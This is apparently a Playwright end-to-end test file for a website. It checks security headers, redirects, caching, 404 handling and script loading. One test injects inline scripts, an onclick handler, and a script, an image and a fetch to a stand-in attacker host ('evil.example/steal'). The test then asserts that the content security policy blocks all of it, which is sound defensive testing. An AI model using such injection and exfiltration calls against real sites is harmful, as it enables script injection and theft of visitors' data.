import { readFileSync } from "node:fs";
import path from "node:path";
import { expect, type Page, test } from "@playwright/test";
import { publishOptions } from "../hosting/settings/publish-options";
import { collectFaults, hydrated } from "./page-faults";
import { NOT_FOUND, PAGE_OF_EVERY_KIND, ROUTES } from "./routes";
import { CONTACT, firstOf, SERVICES } from "./site-words";

const MAP_ORIGIN = "https://www.google.com";
const SERVICE = firstOf(SERVICES);

/** What a build with these settings promises besides https: only what the domain's owner chose (PUBLISHING.md). */
const { includeSubDomains, preload } = publishOptions().security;
const TRANSPORT_SECURITY = new RegExp(`^max-age=\\d{8,}${includeSubDomains ? "; includeSubDomains" : ""}${preload ? "; preload" : ""}$`);

/** No request may reach the network; one that the policy blocks never gets this far. */
async function stubMap(page: Page): Promise<void> {
  await page.route(`${MAP_ORIGIN}/**`, (route) => route.fulfill({ contentType: "text/html", body: "<h1>Map</h1>" }));
}

test.describe("the security policy", () => {
  test("holds while a visitor moves through menu, pages and map", async ({ page }) => {
    await stubMap(page);
    const faults = collectFaults(page);
    await page.setViewportSize({ width: 1440, height: 900 });
    await page.goto("/");
    await hydrated(page);
    const menu = page.getByRole("banner");
    await menu.locator('li > a[href="/services"]').first().click();
    await expect(page).toHaveURL("/services");
    await page.getByRole("main").locator(`a[href="${SERVICE.path}"]`).first().click();
    await expect(page).toHaveURL(SERVICE.path);
    await menu.locator('a[href="/blog"]').click();
    await expect(page).toHaveURL("/blog");
    await menu.locator('a[href="/contact"]').click();
    await expect(page).toHaveURL("/contact");
    await page.getByRole("link", { name: CONTACT.map.button, exact: true }).click();
    await expect(page.frameLocator("iframe").getByRole("heading")).toHaveText("Map");
    await page.goBack();
    await expect(page).toHaveURL("/blog");
    expect(faults).toEqual([]);
  });

  for (const address of ["/", NOT_FOUND.path]) {
    test(`blocks what an attacker would add to ${address}`, async ({ page }) => {
      const faults = collectFaults(page);
      const foreign: string[] = [];
      await page.route("https://evil.example/**", (route) => {
        foreign.push(route.request().url());
        return route.fulfill({ body: "" });
      });
      await page.goto(address);
      const outcome = await page.evaluate(async () => {
        const add = (name: string, attributes: object) => document.body.append(Object.assign(document.createElement(name), attributes));
        add("script", { textContent: "document.documentElement.dataset.inline = 'ran'" });
        add("script", { src: "https://evil.example/a.js" });
        add("img", { src: "https://evil.example/a.png" });
        add("style", { textContent: "h1 { visibility: hidden }" });
        document.body.insertAdjacentHTML("beforeend", `<b onclick="document.documentElement.dataset.handler = 'ran'">x</b>`);
        document.querySelector("b:last-child")?.dispatchEvent(new MouseEvent("click"));
        const sent = await fetch("https://evil.example/steal").then(
          () => "sent",
          () => "blocked",
        );
        const { inline, handler } = document.documentElement.dataset;
        return { inline, handler, sent, heading: getComputedStyle(document.querySelector("h1") ?? document.body).visibility };
      });
      expect(outcome).toEqual({ inline: undefined, handler: undefined, sent: "blocked", heading: "visible" });
      expect(foreign).toEqual([]);
      expect(faults.filter((fault) => fault.startsWith("policy")).length).toBeGreaterThanOrEqual(6);
    });
  }
});

test.describe("answers", () => {
  test("every answer carries the general protections", async ({ request }) => {
    for (const address of [...PAGE_OF_EVERY_KIND, NOT_FOUND.path, "/page-data/app-data.json"]) {
      const headers = (await request.get(address)).headers();
      expect(headers["strict-transport-security"]).toMatch(TRANSPORT_SECURITY);
      expect(headers["x-content-type-options"]).toBe("nosniff");
      expect(headers["x-frame-options"]).toBe("DENY");
      expect(headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
      expect(headers["cross-origin-resource-policy"]).toBe("same-origin");
      expect(headers["permissions-policy"]).toContain("geolocation=()");
    }
    expect((await request.get("/")).headers()["cross-origin-opener-policy"]).toBe("same-origin");
  });

  for (const { path: address } of ROUTES.filter(({ path }) => path !== "/")) {
    test(`${address} answers at once; every other form leads there by one redirect`, async ({ request }) => {
      expect((await request.get(address, { maxRedirects: 0 })).status()).toBe(200);
      const cases = [address.toUpperCase(), address.replace(/\/\w/g, (start) => start.toUpperCase())].filter((form) => form !== address);
      for (const form of [`${address}/`, `${address}/index.html`, ...cases]) {
        const response = await request.get(form, { maxRedirects: 0 });
        expect([form, response.status(), response.headers().location]).toEqual([form, 301, address]);
      }
    });
  }

  test("/index.html leads home", async ({ request }) => {
    const response = await request.get("/index.html", { maxRedirects: 0 });
    expect([response.status(), response.headers().location]).toEqual([301, "/"]);
  });

  test("an unknown address is a 404, also when it looks like a known one", async ({ request }) => {
    const unknown = PAGE_OF_EVERY_KIND.map((address) => `${address.replace(/\/$/, "")}/no-such-page`);
    for (const address of [...unknown, "/app.js.map"]) {
      expect([address, (await request.get(address)).status()]).toEqual([address, 404]);
    }
  });

  test("a page is asked for anew, what its name identifies is kept, and page data lives a minute at most", async ({ request }) => {
    const html = readFileSync(path.resolve(__dirname, "../dist/index.html"), "utf8");
    const [script = ""] = /\/app-[0-9a-f]+\.js/.exec(html) ?? [];
    const [font = ""] = /\/fonts\/[^"]+\.woff2/.exec(html) ?? [];
    const caching = async (address: string) => (await request.get(address)).headers()["cache-control"];
    expect(await caching("/")).toBe("public, max-age=0, must-revalidate");
    expect(await caching(SERVICE.path)).toBe("public, max-age=0, must-revalidate");
    expect(await caching(script)).toBe("public, max-age=31536000, immutable");
    expect(await caching(font)).toBe("public, max-age=31536000, immutable");
    const [, seconds] = /max-age=(\d+)$/.exec((await caching("/page-data/index/page-data.json")) ?? "") ?? [];
    expect(Number(seconds)).toBeLessThanOrEqual(60);
  });
});

test.describe("scripts", () => {
  test("are asked for after the page is painted, not before", async ({ page }) => {
    const scriptsBeforeLoad: string[] = [];
    let loaded = false;
    page.on("load", () => {
      loaded = true;
    });
    page.on("request", (request) => {
      if (request.resourceType() === "script" && !loaded) scriptsBeforeLoad.push(request.url());
    });
    await page.goto("/about");
    await hydrated(page);
    expect(scriptsBeforeLoad).toEqual([]);
  });

  test("start at the first touch, even before the page has loaded", async ({ page }) => {
    await page.route("**/*.avif", () => {}); // the first picture never arrives
    await page.goto("/", { waitUntil: "commit" });
    await page.locator("h1").dispatchEvent("pointerdown");
    await hydrated(page);
    expect(await page.evaluate(() => document.readyState)).not.toBe("complete");
  });

  test("the code, the styles and the data of a page that a link in view leads to are fetched ahead", async ({ page }) => {
    const asked = new Set<string>();
    page.on("request", (request) => asked.add(new URL(request.url()).pathname));
    await page.setViewportSize({ width: 1440, height: 900 });
    await page.goto("/about");
    await hydrated(page);
    for (const file of [
      /^\/component---src-templates-blog.*\.js$/,
      /^\/component---src-templates-blog.*\.css$/,
      /^\/page-data\/blog\/page-data\.json$/,
    ])
      await expect.poll(() => [...asked].filter((address) => file.test(address))).toHaveLength(1);
  });
});

test("a page holds its own styles and no other; a link brings those of the page it leads to", async ({ page }) => {
  const cardStyle = () =>
    page
      .locator("main article")
      .first()
      .evaluate((card) => JSON.stringify(Object.entries(getComputedStyle(card))));

  await page.setViewportSize({ width: 1440, height: 900 });
  const response = await page.goto("/about");
  expect(await response?.text()).not.toContain('rel="stylesheet"');
  await hydrated(page);
  await page.getByRole("banner").locator('a[href="/blog"]').click();
  await expect(page).toHaveURL("/blog");
  const byLink = await cardStyle();
  await page.reload();
  expect(await cardStyle()).toBe(byLink);
});
